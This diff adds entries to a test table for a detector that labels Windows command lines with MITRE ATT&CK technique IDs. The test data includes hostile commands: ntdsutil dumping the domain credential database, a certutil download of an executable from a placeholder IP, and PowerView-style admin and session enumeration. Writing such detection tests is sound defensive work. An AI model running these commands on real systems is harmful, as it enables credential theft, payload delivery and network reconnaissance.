@@ -93,6 +93,9 @@ describe("commands", () => {
     ["T1482", "nltest /domain_trusts"],
     ["T1003.003", 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'],
     ["T1105", "certutil -urlcache -f http://192.0.2.1/a.exe a.exe"],
+    ["T1059.006", '"C:\\Program Files\\Python312\\python.exe" -m http.server 8080'],
+    ["T1069.001", "Find-LocalAdminAccess -Threads 20"],
+    ["T1049", "Get-NetSession -ComputerName files01"],
   ];
   for (const [technique, command] of commands)
     test(`are read: ${command.slice(0, 40)}`, () => assert.equal(commandTechniques({ CommandLine: command })[0]?.technique, technique));
